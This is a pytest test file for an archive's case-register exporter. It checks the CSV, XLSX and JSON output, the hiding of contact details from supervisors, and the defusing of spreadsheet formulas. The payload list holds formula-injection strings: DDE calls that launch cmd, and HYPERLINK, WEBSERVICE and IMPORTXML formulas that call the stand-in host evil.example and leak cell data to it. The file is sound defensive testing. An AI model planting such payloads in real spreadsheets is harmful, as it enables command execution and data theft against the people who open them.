import csv
import io
import json
import subprocess
import zipfile
from collections.abc import Iterable
from dataclasses import fields, replace
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from archive.casework import CaseState
from archive.register.columns import Reader, columns_for
from archive.register.rows import RegisterRow
from archive.register.sheets import CELL_MAX_CHARACTERS, SHEETS
from archive.spreadsheet import harmless
from tests.archive.register.rows import FULL, PLAIN, SEALED

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
TAILS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?"&A1,"x")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'WEBSERVICE("http://evil.example")',
    'IMPORTXML("http://evil.example","//a")',
    'DDE("cmd";"/C calc";"x")',
)
PAYLOADS = [
    *(start + tail for start in STARTS for tail in TAILS),
    *(start * n + tail for start in STARTS for tail in TAILS for n in (2, 3)),
    *(first + second + tail for first in STARTS for second in STARTS for tail in TAILS[:2]),
]
PAYLOADS = [*PAYLOADS, *(f'"{p}' for p in PAYLOADS), *(f" {p}" for p in PAYLOADS)][:1_000]


def written(
    file: Path, rows: Iterable[RegisterRow], form: str = "xlsx", reader: Reader = Reader.STAFF
) -> Path:
    sheet = SHEETS[form](file, PLAIN, reader)
    for row in rows:
        sheet.add(row)
    sheet.close()
    return file


def read_csv(file: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.read_bytes().decode("utf-8-sig"), newline="")))


def read_xlsx(file: Path) -> Any:
    return openpyxl.load_workbook(file).worksheets[0]


EXPECTED = {
    "reference": "CAU-0007",
    "state": "state:closed",
    "text": "Bao giờ sửa cầu?",
    "topic": "Đường sá",
    "place": "Thôn Đông",
    "name": "Bà Ý",
    "contact": "0900 000 000",
    "kind": "kind:proposal",
    "channel": "channel:phone",
    "received_at": "21/11/2026",
    "support": "12",
    "competence": "competence:commune",
    "urgency": "urgency:normal",
    "unit": "Phòng Kinh tế",
    "owner": "lan",
    "with_units": "Công an; Địa chính",
    "authority": "UBND tỉnh",
    "transferred_at": "21/11/2026",
    "due": "21/11/2026",
    "promised": "31/12/2026",
    "overdue": "no",
    "breached": "yes",
    "stage_outcome": "stage_outcome:promised",
    "outcome": "outcome:resolved",
    "decision": "Đã sửa xong.",
    "basis": "Luật 72/2025/QH15",
    "doer": "Tổ sửa chữa",
    "approved_by": "hai",
    "answered_at": "21/11/2026",
    "publication": "publication:published",
    "public_id": "K7QM2X",
    "stars": "4",
    "solved": "yes",
    "reopened": "1",
    "supervision": "supervision:satisfied",
    "reason": "",
    "merged_into": "",
    "split_from": "CAU-0003",
    "closed_at": "21/11/2026",
    "files": "2",
}


def test_every_field_of_a_row_has_its_column() -> None:
    shown = {column.field for column in columns_for(Reader.STAFF)}
    assert {field.name for field in fields(RegisterRow)} - shown == {
        "conference",
        "question",
        "part",
    }


def test_csv_is_for_people(tmp_path: Path) -> None:
    """The last day is that before the first moment that is too late."""
    head, full, sealed = read_csv(written(tmp_path / "r.csv", [FULL, SEALED], "csv"))
    assert dict(zip(head, full, strict=True)) == EXPECTED
    assert [cell for cell in sealed if cell] == ["CAU-0008", "state:sealed"]


def test_xlsx_says_the_same_with_days_and_numbers(tmp_path: Path) -> None:
    page = read_xlsx(written(tmp_path / "r.xlsx", [FULL, SEALED]))
    head, full, sealed = page.iter_rows(values_only=True)
    told = dict(zip(head, full, strict=True))
    as_text = {
        name: f"{cell:%d/%m/%Y}"
        if isinstance(cell, datetime)
        else ""
        if cell is None
        else str(cell)
        for name, cell in told.items()
    }
    assert as_text == EXPECTED
    assert (told["received_at"], told["support"]) == (datetime(2026, 11, 21), 12)  # noqa: DTZ001
    assert page.cell(2, head.index("due") + 1).number_format == "dd/mm/yyyy"
    assert [cell for cell in sealed if cell] == ["CAU-0008", "state:sealed"]


def test_xlsx_can_be_read_on_a_screen_and_on_paper(tmp_path: Path) -> None:
    page = read_xlsx(written(tmp_path / "r.xlsx", [FULL, SEALED]))
    columns = columns_for(Reader.STAFF)
    last = openpyxl.utils.get_column_letter(len(columns))
    assert (page.freeze_panes, page.auto_filter.ref) == ("B2", f"A1:{last}3")
    assert page.column_dimensions["C"].width == pytest.approx(60, abs=1)
    assert (page.print_title_rows, page.page_setup.orientation) == ("$1:$1", "landscape")


def test_json_is_for_machines(tmp_path: Path) -> None:
    full, sealed = json.loads(written(tmp_path / "r.json", [FULL, SEALED], "json").read_bytes())
    assert full["due"] == "2026-11-21"
    assert full["received_at"] == "2026-11-21T12:00:00+07:00"
    assert full["with_units"] == ["Công an", "Địa chính"]
    assert (full["state"], full["solved"], full["support"], full["promised"]) == (
        "closed",
        True,
        12,
        "2026-12-31",
    )
    assert {name: value for name, value in sealed.items() if value} == {
        "reference": "CAU-0008",
        "state": "sealed",
        "conference": "CAU",
        "question": 8,
        "part": 1,
    }


@pytest.mark.parametrize("form", SHEETS)
def test_a_register_of_no_cases_is_one(tmp_path: Path, form: str) -> None:
    file = written(tmp_path / f"r.{form}", [], form)
    if form == "json":
        assert json.loads(file.read_bytes()) == []
    elif form == "csv":
        assert len(read_csv(file)) == 1
    else:
        assert read_xlsx(file).max_row == 1


@pytest.mark.parametrize("form", SHEETS)
def test_the_supervisor_does_not_read_how_to_reach_anybody(tmp_path: Path, form: str) -> None:
    file = written(tmp_path / "r", [FULL], form, Reader.SUPERVISOR)
    content = file.read_bytes()
    if form == "xlsx":
        with zipfile.ZipFile(file) as packed:
            content = b"".join(packed.read(name) for name in packed.namelist())
    assert (b"0900" in content, b"contact" in content, "Đường sá".encode() in content) == (
        False,
        False,
        True,
    )


@pytest.mark.parametrize("form", SHEETS)
def test_the_same_lines_give_the_same_file(tmp_path: Path, form: str) -> None:
    one, other = (written(tmp_path / name, [FULL, SEALED], form) for name in ("a", "b"))
    assert one.read_bytes() == other.read_bytes()


# Formulas


def attacked() -> list[RegisterRow]:
    """Each payload in every column that takes words."""
    words = [
        column.field
        for column in columns_for(Reader.STAFF)
        if column.holds.value == "words" and column.field != "reference"
    ]
    return [
        replace(FULL, **dict.fromkeys(words, payload), with_units=(payload, payload))
        for payload in PAYLOADS
    ]


@pytest.mark.slow
def test_no_cell_of_five_hundred_payloads_is_a_formula(tmp_path: Path) -> None:
    assert len(PAYLOADS) > 500
    page = read_xlsx(written(tmp_path / "r.xlsx", attacked()))
    kinds = {cell.data_type for row in page.iter_rows(min_row=2) for cell in row}
    assert kinds == {"s", "n", "d"}
    starts = {str(cell.value)[0] for row in page.iter_rows(min_row=2) for cell in row if cell.value}
    assert starts & {*STARTS} == set()
    with zipfile.ZipFile(tmp_path / "r.xlsx") as packed:
        sheet = packed.read("xl/worksheets/sheet1.xml")
    assert (b"<f>" in sheet, b"<hyperlink" in sheet) == (False, False)


def test_no_cell_of_the_csv_begins_like_a_formula(tmp_path: Path) -> None:
    lines = read_csv(written(tmp_path / "r.csv", attacked(), "csv"))
    assert len(lines) == len(PAYLOADS) + 1
    starts = {cell[0] for line in lines[1:] for cell in line if cell}
    assert starts & {*STARTS} == set()


@pytest.mark.slow
@given(text=st.text(min_size=1))
def test_any_text_comes_back_as_it_is(text: str, tmp_path_factory: pytest.TempPathFactory) -> None:
    """But for what makes it harmless; also letters that XML does not have."""
    folder = tmp_path_factory.mktemp("r")
    page = read_xlsx(written(folder / "r.xlsx", [replace(FULL, decision=text)]))
    place = [column.field for column in columns_for(Reader.STAFF)].index("decision") + 1
    kept = "".join(letter if letter in "\t\n\r" or letter >= " " else "\ufffd" for letter in text)
    kept = kept.replace("\ufffe", "\ufffd").replace("\uffff", "\ufffd")
    assert unescape(page.cell(2, place).value or "") == harmless(kept)


def test_a_text_that_excel_would_drop_is_cut(tmp_path: Path) -> None:
    page = read_xlsx(written(tmp_path / "r.xlsx", [replace(FULL, text="ệ" * 40_000)]))
    assert page.cell(2, 3).value == "ệ" * CELL_MAX_CHARACTERS


@pytest.mark.parametrize("state", CaseState)
def test_every_state_is_told(tmp_path: Path, state: CaseState) -> None:
    (line,) = read_csv(written(tmp_path / "r.csv", [replace(SEALED, state=state)], "csv"))[1:]
    assert line[1] == f"state:{state}"


@pytest.mark.slow
def test_libreoffice_finds_no_formula_either(tmp_path: Path, libreoffice: str) -> None:
    """Read in and written anew by another programme, from both sheets; it knows a formula when it meets one."""
    (tmp_path / "plain.csv").write_text("=1+1", encoding="utf-8")
    assert "table:formula=" in reread(libreoffice, tmp_path / "plain.csv")
    for form in ("xlsx", "csv"):
        file = written(tmp_path / f"r.{form}", attacked(), form)
        assert "table:formula=" not in reread(libreoffice, file)


def reread(libreoffice: str, file: Path) -> str:
    """What it makes of this sheet, as flat XML."""
    there = file.parent / file.suffix
    command = [libreoffice, "--headless", f"-env:UserInstallation=file://{file.parent}/profile"]
    command += ["--convert-to", "fods", "--outdir", str(there), str(file)]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    return (there / file.with_suffix(".fods").name).read_text(encoding="utf-8")
